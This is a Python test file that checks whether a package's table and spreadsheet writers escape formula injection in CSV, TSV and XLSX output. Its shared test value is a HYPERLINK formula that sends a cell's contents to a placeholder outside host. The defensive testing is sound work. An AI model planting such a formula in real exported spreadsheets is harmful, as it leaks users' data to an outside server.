"""What each writer of tables makes of a name that a spreadsheet would run."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import xarray as xr

from qiantang.charts.tables import write_data
from qiantang.files.tablefile import write_table
from qiantang.results import write_results
from qiantang.skill.saved import csv_text

EVIL = '=HYPERLINK("https://x.example/"&A1,"y")'


def formulas(path: Path) -> list[str]:
    """Return the cells of a file that a spreadsheet takes for formulas."""
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        return [str(cell.value) for sheet in book for row in sheet for cell in row
                if cell.data_type == "f"]  # fmt: skip
    sep = "\t" if path.suffix == ".tab" else ","
    table = pd.read_csv(path, sep=sep, header=None, dtype=str, keep_default_na=False)
    return [cell for cell in table.to_numpy().ravel() if cell.startswith("=")]


def results() -> xr.Dataset:
    cells = np.full((1, 2, 2), -1.5)
    axes = ("scenario", "member", "time")
    attrs = {"units": EVIL, "long_name": EVIL, "figure": EVIL}
    return xr.Dataset(
        {EVIL: (axes, cells, attrs), "diverged": (axes[:2], np.zeros((1, 2), bool))},
        coords={"scenario": [EVIL], "member": [0, 1], "time": [2018, 2019]},
        attrs={EVIL: EVIL},
    )


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_results_of_a_run(suffix: str, tmp_path: Path) -> None:
    out = tmp_path / f"out{suffix}"
    write_results(results(), out)
    assert formulas(out) == []
    read = pd.read_csv(out) if suffix == ".csv" else pd.read_excel(out, engine="openpyxl")
    guard = "'" if suffix == ".csv" else ""
    assert read["scenario"].unique().tolist() == [guard + EVIL]
    assert read[guard + EVIL].unique().tolist() == [-1.5]


@pytest.mark.parametrize("suffix", [".csv", ".tab"])
def test_the_table_of_a_single_run(suffix: str, tmp_path: Path) -> None:
    out = tmp_path / f"out{suffix}"
    frame = pd.DataFrame({EVIL: [-1.0, 2.0]}, index=pd.Index([0.0, 1.0], name="Time"))
    write_table(frame, out)
    assert formulas(out) == []
    assert out.read_text(encoding="utf-8").splitlines()[1:] == [
        line.replace(",", "\t" if suffix == ".tab" else ",") for line in ("0.0,-1.0", "1.0,2.0")
    ]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_numbers_behind_a_chart(suffix: str, tmp_path: Path) -> None:
    out = tmp_path / f"out{suffix}"
    write_data(pd.DataFrame({EVIL: [EVIL], "x": [-1.0]}), {EVIL: EVIL, "a": "b"}, "en", out)
    assert formulas(out) == []


def test_the_tables_of_a_scoreboard_and_of_a_fit(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_text(csv_text([{"series": EVIL, EVIL: -1.0}]), encoding="utf-8")
    assert formulas(out) == []
